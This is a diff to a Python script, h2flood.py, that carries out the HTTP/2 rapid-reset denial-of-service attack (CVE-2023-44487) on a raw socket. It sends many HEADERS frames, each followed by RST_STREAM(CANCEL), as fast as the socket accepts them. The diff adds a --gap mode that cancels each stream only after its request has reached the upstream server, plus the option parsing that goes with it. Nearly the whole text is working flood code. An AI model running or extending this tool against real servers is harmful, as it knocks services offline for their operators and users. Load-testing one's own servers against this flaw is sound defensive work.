@@ -1,11 +1,13 @@
 #!/usr/bin/python3
-"""The HTTP/2 rapid-reset attack (CVE-2023-44487) on a raw socket:   h2flood.py HOST PORT AUTHORITY COUNT [--linger S]
+"""The HTTP/2 rapid-reset attack (CVE-2023-44487) on a raw socket:
+    h2flood.py HOST PORT AUTHORITY COUNT [--linger S] [--gap S]
 
 Sends the client preface and an empty SETTINGS, then COUNT times a GET's HEADERS (END_HEADERS | END_STREAM; every
 field an HPACK "literal without indexing, new name", hand-encoded) at once followed by RST_STREAM(CANCEL), on
 streams 1, 3, 5, ... It writes as fast as the socket takes, reading without blocking all along (SETTINGS acked,
 PING answered), and stops at the peer's GOAWAY or close; with everything sent it waits up to --linger seconds
-(5) for either. Standard library only. One JSON line on standard output:
+(5) for either. With --gap, one stream at a time: its HEADERS, then its RST_STREAM S seconds later (the request
+has gone upstream by then). Standard library only. One JSON line on standard output:
   {"sent": streams whose two frames went out whole, "goaway": bool, "goaway_error": code or null,
    "last_stream_id": the GOAWAY's or null, "closed": the peer closed or reset the connection, "seconds"}
 """
@@ -66,11 +68,13 @@ def parse(incoming, queue):
 
 def main():
     args = sys.argv[1:]
-    linger = 5.0
-    if "--linger" in args:
-        at = args.index("--linger")
-        linger = float(args[at + 1])
-        del args[at:at + 2]
+    options = {"--linger": 5.0, "--gap": 0.0}
+    for name in options:
+        if name in args:
+            at = args.index(name)
+            options[name] = float(args[at + 1])
+            del args[at:at + 2]
+    linger, gap = options["--linger"], options["--gap"]
     if len(args) != 4:
         sys.exit(__doc__)
     host, port, authority, count = args[0], int(args[1]), args[2], int(args[3])
@@ -95,8 +99,17 @@ def main():
     incoming = bytearray()
     goaway, closed, done_at = None, False, None
 
+    pending = None  # with --gap: the stream whose RST_STREAM is due, and when
     while not closed and goaway is None:
-        if generated < count and len(outgoing) < 64 * 1024:
+        if gap and pending is None and generated < count:
+            pending = (2 * generated + 1, time.monotonic() + gap)
+            queue(frame(HEADERS, END_HEADERS | END_STREAM, pending[0], block))
+        elif gap and pending is not None and time.monotonic() >= pending[1]:
+            queue(frame(RST_STREAM, 0, pending[0], struct.pack(">I", CANCEL)))
+            ends.append(queued)
+            generated += 1
+            pending = None
+        elif not gap and generated < count and len(outgoing) < 64 * 1024:
             for _ in range(min(BATCH, count - generated)):
                 stream = 2 * generated + 1
                 queue(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
@@ -107,7 +120,7 @@ def main():
             done_at = time.monotonic()
         if done_at is not None and time.monotonic() - done_at > linger:
             break
-        readable, writable, _ = select.select([sock], [sock] if outgoing else [], [], 0.1)
+        readable, writable, _ = select.select([sock], [sock] if outgoing else [], [], min(0.1, gap or 0.1))
         if readable:
             try:
                 chunk = sock.recv(65536)
